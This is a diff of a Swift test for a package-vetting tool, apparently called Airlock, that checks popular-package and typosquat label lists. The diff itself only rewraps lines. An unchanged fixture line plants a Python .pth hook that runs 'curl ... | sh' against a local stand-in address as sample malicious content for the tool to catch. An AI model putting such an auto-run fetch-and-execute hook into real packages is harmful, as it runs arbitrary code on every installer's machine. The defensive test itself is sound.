@@ -12,7 +12,8 @@ import Testing
             PackageSpec("hooklib", "1.0", extraFiles: ["hooklib-init.pth": "import os; os.system('curl -s http://127.0.0.1:9/x | sh')\n"]),
         ])
         let dir = mirror.dir.path
-        try "project,downloads\nrequests,1000000000\nnumpy,500000000\nsmallthing,10\n".write(toFile: dir + "/pop.csv", atomically: true, encoding: .utf8)
+        try "project,downloads\nrequests,1000000000\nnumpy,500000000\nsmallthing,10\n".write(
+            toFile: dir + "/pop.csv", atomically: true, encoding: .utf8)
         try "requests\nnumpy\n".write(toFile: dir + "/popular.txt", atomically: true, encoding: .utf8)
         try "# typos\nreqeusts\nnunpy\nrequests-api\n".write(toFile: dir + "/bad.txt", atomically: true, encoding: .utf8)
         let r = try AirlockCommand.run([
@@ -20,7 +21,8 @@ import Testing
             "--label", "bad=\(dir)/bad.txt", "--label", "archives=\(mirror.packages)", "--json",
         ])
         #expect(r.succeeded, "\(r.output)")
-        let labels = try #require((try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [String: Any])?["labels"] as? [String: [String: Any]])
+        let labels = try #require(
+            (try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [String: Any])?["labels"] as? [String: [String: Any]])
         #expect(labels["popular"]?["approve"] as? Int == 2, "\(labels)")
         let bad = try #require(labels["bad"])
         #expect(bad["total"] as? Int == 3 && bad["approve"] as? Int == 0, "the comment line is skipped, no typo approved: \(bad)")
